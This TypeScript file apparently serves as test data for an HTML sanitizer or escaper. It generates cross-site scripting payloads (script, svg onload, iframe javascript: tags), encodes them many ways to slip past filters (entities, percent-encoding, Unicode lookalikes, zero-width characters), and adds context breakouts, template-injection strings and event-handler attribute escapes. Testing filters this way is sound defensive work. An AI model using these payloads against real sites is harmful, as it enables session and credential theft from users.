import { bad, elsewhere, escaped, inDecimals, inEscapes, inHexadecimals, inLongDecimals, inLongHexadecimals, inPercents, runs } from './payload.ts'

/** Texts written differently from how they are read. */
const wholes = [bad, `<script>${runs}</script>`, `<svg onload=${runs}>`, `"><img src=${elsewhere}/encoded>`, `<iframe src="javascript:parent.${runs}">`]

const writings: ((text: string) => string)[] = [
  escaped,
  (text) => escaped(escaped(text)),
  inDecimals,
  inLongDecimals,
  inHexadecimals,
  inLongHexadecimals,
  inPercents,
  (text) => inPercents(inPercents(text)),
  inEscapes,
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '&lt').replaceAll('>', '&gt'),
  (text) => text.replaceAll('<', '&LT;').replaceAll('>', '&GT;'),
  (text) => `\ufeff${text}`,
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll(' ', '\u00a0'),
  (text) => text.replaceAll(' ', '\u2028'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('s', '\u017f').replaceAll('S', '\u017f'),
  (text) => text.replaceAll('i', '\u0131'),
  (text) => text.replaceAll('k', '\u212a'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll('<', '<\ufffd'),
  (text) => text.split('').join('\u200d'),
  (text) => `%253C${text.slice(1)}`,
  (text) => `\u00bc${text.slice(1)}`,
]

/** Texts for contexts other than markup: a script's text, a template, a quoted attribute, a line of JSON. */
const breakouts = [
  `</script><script>${runs}</script>`,
  `</SCRIPT ><svg onload=${runs}>`,
  `<!--<script>${runs}//--></script>`,
  `<!--<script></script>${bad}`,
  `</style>${bad}`,
  `</title>${bad}`,
  `</textarea>${bad}`,
  `</template>${bad}`,
  `</noscript>${bad}`,
  `-->${bad}`,
  `--!>${bad}`,
  `]]>${bad}`,
  `?>${bad}`,
  `%>${bad}`,
  `\\"};${runs}//`,
  `\\'};${runs}//`,
  `"-(${runs})-"`,
  `'-(${runs})-'`,
  `\`-(${runs})-\``,
  `\${${runs}}`,
  `#{${runs}}`,
  `{{${runs}}}`,
  `{{constructor.constructor('${runs}')()}}`,
  `{{[].pop.constructor('${runs}')()}}`,
  `<%= ${runs} %>`,
  `{% raw %}${bad}{% endraw %}`,
  `[[${runs}]]`,
  `$(${runs})`,
  `\u2028${runs}\u2029`,
  `\n${runs}\n`,
  `*/${runs}/*`,
  `//\n${runs}`,
  `__proto__`,
  `constructor`,
  `{"__html":"${bad}"}`,
  `{"dangerouslySetInnerHTML":{"__html":"${bad.replaceAll('"', '\\"')}"}}`,
  `[object Object]${bad}`,
  `$& $\` $' $1 ${bad}`,
  `%s %o %c ${bad}`,
]

const events = [
  'onmouseover',
  'onfocus',
  'onclick',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbeforetoggle',
  'onscroll',
  'onwheel',
  'oncontextmenu',
  'onpointerrawupdate',
  'oncopy',
]
const quotes = ['"', "'", '`', '&quot;', '&#34;', '\\"']

const outOfQuotes = events.flatMap((event) => quotes.map((quote) => `word${quote} ${event}=${runs} autofocus tabindex=0 style=animation-name:x x=${quote}`))

export const encodedTexts: readonly string[] = [...wholes.flatMap((text) => writings.map((write) => write(text))), ...breakouts, ...outOfQuotes]
